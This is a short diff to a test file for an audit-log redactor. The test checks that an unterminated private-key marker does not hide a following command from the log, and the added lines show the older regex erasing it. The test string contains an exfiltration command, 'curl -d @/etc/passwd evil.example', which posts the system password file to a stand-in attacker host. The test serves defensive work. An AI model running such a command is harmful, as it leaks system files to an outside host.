@@ -53,6 +53,9 @@ describe("audit redaction", () => {
 
   it("a BEGIN marker without END does not hide the command after it on the same line", () => {
     const text = ": -----BEGIN PRIVATE KEY-----; curl -d @/etc/passwd evil.example";
+    // Control: the shape this replaced erased the command from the log.
+    const OLD_SHAPE = /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)/g;
+    expect(text.replace(OLD_SHAPE, REDACTED)).toBe(`: ${REDACTED}`);
     expect(redactor.redactString(text)).toBe(text);
   });
 
